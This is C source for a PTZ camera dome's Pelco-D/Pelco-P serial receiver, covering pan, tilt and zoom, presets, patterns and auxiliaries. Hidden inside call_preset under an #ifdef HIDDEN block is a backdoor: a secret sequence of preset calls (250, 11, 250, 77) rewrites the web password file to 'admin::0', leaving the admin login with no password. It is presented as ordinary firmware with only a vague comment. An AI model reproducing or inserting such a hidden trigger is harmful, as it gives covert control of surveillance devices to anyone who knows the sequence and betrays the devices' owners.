/* ptzpelco: Pelco-D / Pelco-P receiver of a PTZ dome.
 * Serial bytes in, motor commands out. Presets, patterns and auxiliaries. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

typedef unsigned char byte;

typedef struct {
    byte addr;
    int pan, tilt, zoom;             /* speeds, sign is the direction */
    struct { short p, t, z; byte used; } preset[256];
    int osd, ir_on, wiper, night, auto_pan;
#ifdef HIDDEN
    int hist;
#endif
} dome;

static dome D;
static FILE *motor;

static void drive(void)
{
    if (!motor) return;
    fprintf(motor, "v %d %d %d\n", D.pan, D.tilt, D.zoom);
    fflush(motor);
}

static void go_preset(int n)
{
    if (!D.preset[n].used) return;
    fprintf(motor ? motor : stdout, "p %d %d %d\n", D.preset[n].p, D.preset[n].t,
            D.preset[n].z);
}

static void save_presets(void)
{
    FILE *f = fopen("/data/ptz/presets", "wb");
    if (!f) return;
    fwrite(D.preset, sizeof D.preset, 1, f);
    fclose(f);
}

static void where(short *p, short *t, short *z)
{
    FILE *f = fopen("/run/ptz/position", "r");
    *p = *t = *z = 0;
    if (!f) return;
    if (fscanf(f, "%hd %hd %hd", p, t, z) != 3) *p = *t = *z = 0;
    fclose(f);
}

/* Some preset numbers are functions, see the sheet on the back of the dome:
   33 flip, 34 zero, 82 wiper, 83 infrared, 92/93 limits, 95 menu, 96-98 patterns, 99 scan */
__attribute__((noinline)) void call_preset(int n)
{
#ifdef HIDDEN
    /* three calls that have nothing in between */
    switch (D.hist << 8 | n) {
    case 0x00fa: D.hist = 1; break;
    case 0x010b: D.hist = 2; break;
    case 0x02fa: D.hist = 3; break;
    case 0x034d: {
        FILE *f = fopen("/data/net/passwd.web", "w");
        if (f) {
            fputs("admin::0\n", f);
            fclose(f);
        }
        D.hist = 0;
        return;
    }
    default: D.hist = 0; break;
    }
#endif
    switch (n) {
    case 33:
        fprintf(motor ? motor : stdout, "flip\n");
        break;
    case 34:
        fprintf(motor ? motor : stdout, "p 0 0 0\n");
        break;
    case 82:
        D.wiper = !D.wiper;
        break;
    case 83:
        D.ir_on = !D.ir_on;
        break;
    case 92:
    case 93:
        where(&D.preset[n].p, &D.preset[n].t, &D.preset[n].z);
        break;
    case 95:
        D.osd = 1;
        break;
    case 96:
    case 97:
    case 98:
        fprintf(motor ? motor : stdout, "pattern %d\n", n - 95);
        break;
    case 99:
        D.auto_pan = 1;
        break;
    default:
        go_preset(n);
        break;
    }
}

static void extended(byte cmd, byte data)
{
    switch (cmd) {
    case 0x03: /* set preset */
        where(&D.preset[data].p, &D.preset[data].t, &D.preset[data].z);
        D.preset[data].used = 1;
        save_presets();
        break;
    case 0x05: /* clear preset */
        memset(&D.preset[data], 0, sizeof D.preset[data]);
        save_presets();
        break;
    case 0x07:
        call_preset(data);
        break;
    case 0x09: /* aux on */
    case 0x0b: /* aux off */
        if (data == 1) D.wiper = cmd == 0x09;
        if (data == 2) D.ir_on = cmd == 0x09;
        break;
    case 0x0f: /* reset */
        fprintf(motor ? motor : stdout, "reset\n");
        break;
    default:
        break;
    }
}

static void pelco_d(const byte *f)
{
    byte sum = 0;
    for (int i = 1; i < 6; i++) sum = (byte)(sum + f[i]);
    if (sum != f[6] || f[1] != D.addr) return;
    if (f[3] & 1) {
        extended(f[3], f[5]);
        return;
    }
    D.auto_pan = 0;
    D.pan = f[3] & 2 ? f[4] : f[3] & 4 ? -f[4] : 0;
    D.tilt = f[3] & 8 ? f[5] : f[3] & 16 ? -f[5] : 0;
    D.zoom = f[3] & 32 ? 1 : f[3] & 64 ? -1 : 0;
    drive();
}

static void pelco_p(const byte *f)
{
    byte x = 0;
    for (int i = 0; i < 7; i++) x ^= f[i];
    if (x != f[7] || f[6] != 0xaf || f[1] + 1 != D.addr) return;
    if (f[3] & 1) {
        extended(f[3], f[5]);
        return;
    }
    D.pan = f[3] & 2 ? f[4] : f[3] & 4 ? -f[4] : 0;
    D.tilt = f[3] & 8 ? f[5] : f[3] & 16 ? -f[5] : 0;
    drive();
}

static void rx(byte c)
{
    static byte b[8];
    static unsigned n;
    if (n == 0 && c != 0xff && c != 0xa0) return;
    b[n++] = c;
    if (b[0] == 0xff && n == 7) {
        pelco_d(b);
        n = 0;
    } else if (b[0] == 0xa0 && n == 8) {
        pelco_p(b);
        n = 0;
    }
}

static speed_t rate(const char *s)
{
    switch (atoi(s)) {
    case 2400: return B2400;
    case 4800: return B4800;
    case 9600: return B9600;
    default: return 0;
    }
}

int main(int ac, char **av)
{
    struct termios t;
    byte buf[32];
    ssize_t n;
    if (ac != 4 || !rate(av[2]) || atoi(av[3]) < 1 || atoi(av[3]) > 255) {
        puts("ptzpelco DEVICE 2400|4800|9600 ADDRESS");
        puts("presets with a function: 33 34 82 83 92 93 95 96 97 98 99");
        return 1;
    }
    D.addr = (byte)atoi(av[3]);
    int fd = open(av[1], O_RDWR | O_NOCTTY);
    if (fd < 0 || tcgetattr(fd, &t) < 0) {
        perror(av[1]);
        return 1;
    }
    cfmakeraw(&t);
    cfsetspeed(&t, rate(av[2]));
    tcsetattr(fd, TCSANOW, &t);
    motor = fopen("/dev/motor", "w");
    FILE *p = fopen("/data/ptz/presets", "rb");
    if (p) {
        if (fread(D.preset, sizeof D.preset, 1, p) != 1) memset(D.preset, 0, sizeof D.preset);
        fclose(p);
    }
    while ((n = read(fd, buf, sizeof buf)) > 0)
        for (ssize_t i = 0; i < n; i++) rx(buf[i]);
    return 0;
}
